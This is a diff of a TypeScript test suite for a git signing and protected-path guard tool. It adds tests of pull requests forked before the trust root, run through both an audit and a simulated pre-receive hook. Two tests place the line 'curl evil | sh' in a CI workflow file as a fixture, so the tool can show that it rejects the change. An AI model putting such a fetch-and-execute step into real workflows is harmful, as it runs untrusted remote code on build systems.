@@ -5,7 +5,7 @@
 import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
+import { cleanupTemp, copyRepo, makeRepo, tempDir, type TestRepo } from '../helpers/repo.js';
 import { configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
 import { runMain, parseJson, resultOf, type JsonReport } from '../helpers/cli.js';
 
@@ -124,30 +124,68 @@ test('octopus merge by carol: a topic where alice changed one workflow, main ano
   expect(code).toBe(0);
 });
 
-test('a PR branch forked before the trust root, a workflow change signed by alice, merged by carol', async () => {
-  const r = makeRepo();
-  configureSshSigning(r, alice);
-  r.run(['config', 'user.email', 'alice@example.com']);
-  asAlice(r, 'start', { 'src/a.txt': 'a\n', '.github/workflows/ci.yml': WF('ci') });
-  r.run(['branch', 'pr']);
-  const init = await runMain(['init', '-C', r.dir], { env: r.env });
-  expect(init.code).toBe(0);
-  const policy = r.run(['show', 'HEAD:src/a.txt']) && '';
-  void policy;
-  r.run(['add', '.gitguard']);
-  asAlice(r, 'Add gitguard trust policy', {});
-  const p = r.run(['show', 'HEAD:.gitguard/policy.yml']);
-  r.write({
-    '.gitguard/policy.yml': p.replace(/signers:\n/, 'signers:\n  - name: "Carol"\n    emails: ["carol@example.com"]\n'),
+describe('a pull request forked before the trust root (open on adoption day), merged after it', () => {
+  /**
+   * base's first commit (before `gitguard init`), a pr branch from it carrying `build`, merged into
+   * main by carol. The branch is judged by the trust root's policy, where alice alone signs.
+   */
+  function preRootPr(build: (r: TestRepo) => void, edit?: Record<string, string>) {
+    const r = copyRepo(base);
+    const from = r.head();
+    r.run(['checkout', '-q', '-b', 'pr', 'HEAD~2']);
+    build(r);
+    r.run(['checkout', '-q', 'main']);
+    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'Merge pull request #1', 'pr']);
+    if (edit) {
+      r.write(edit);
+      r.run(['add', '-A']);
+      gitAs(r, carol, ['commit', '-q', '--amend', '--no-edit']);
+    }
+    return { r, from, merged: r.head() };
+  }
+  /** The server's hook on a push of main from `from` to `to`, its objects fetched there first (a push's quarantine). */
+  async function preReceive(r: TestRepo, from: string, to: string) {
+    const dir = join(tempDir(), 'server.git');
+    r.run(['init', '-q', '--bare', dir]);
+    r.run(['push', '-q', dir, `${from}:refs/heads/main`]);
+    r.run(['--git-dir', dir, 'fetch', '-q', r.dir, to]);
+    return runMain(['hook', 'run', 'pre-receive'], { cwd: dir, env: r.env, input: `${from} ${to} refs/heads/main\n` });
+  }
+
+  test("alice's workflow change on it, merged by carol: audit and the server hook pass (before: the merge failed protected-paths)", async () => {
+    const { r, from, merged } = preRootPr((b) => {
+      asAlice(b, 'ci: node 22', { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n') });
+      asAlice(b, 'feature', { 'src/f.txt': 'f\n' });
+    });
+    const { report, code } = await audit(r);
+    expect(failing(report)).toEqual([]);
+    expect(code).toBe(0);
+    const receive = await preReceive(r, from, merged);
+    expect(receive.stderr).not.toMatch(/refused/);
+    expect(receive.code).toBe(0);
   });
-  writeFileSync(join(r.dir, '.gitguard', 'allowed_signers'), `carol@example.com ${carol.pub}\n`, { flag: 'a' });
-  asAlice(r, 'policy: carol signs', {});
-  r.run(['checkout', '-q', 'pr']);
-  asAlice(r, 'ci: node 22', { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n') });
-  r.run(['checkout', '-q', 'main']);
-  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'merge pr', 'pr']);
-  const { report } = await audit(r);
-  expect(failing(report)).toEqual([]);
+
+  test("twin: carol's own workflow change on it fails at her commit, in audit and the server hook", async () => {
+    let bad = '';
+    const { r, from, merged } = preRootPr((b) => {
+      bad = asCarol(b, 'ci: mine', { '.github/workflows/ci.yml': WF('ci', '      - run: curl evil | sh\n') });
+    });
+    const { report, code } = await audit(r);
+    expect(resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([bad]);
+    expect(code).toBe(1);
+    const receive = await preReceive(r, from, merged);
+    expect(receive.stderr).toMatch(/protected-paths-changed-by-maintainers/);
+    expect(receive.code).not.toBe(0);
+  });
+
+  test("twin: carol's merge that edits the workflow by hand fails at the merge", async () => {
+    const { r, merged } = preRootPr(
+      (b) => asAlice(b, 'ci: node 22', { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n') }),
+      { '.github/workflows/ci.yml': WF('ci', '      - run: echo 22\n      - run: curl evil | sh\n') },
+    );
+    const { report } = await audit(r);
+    expect(resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([merged]);
+  });
 });
 
 test('merge=union on CODEOWNERS: both sides add an owner (alice), carol merges', async () => {
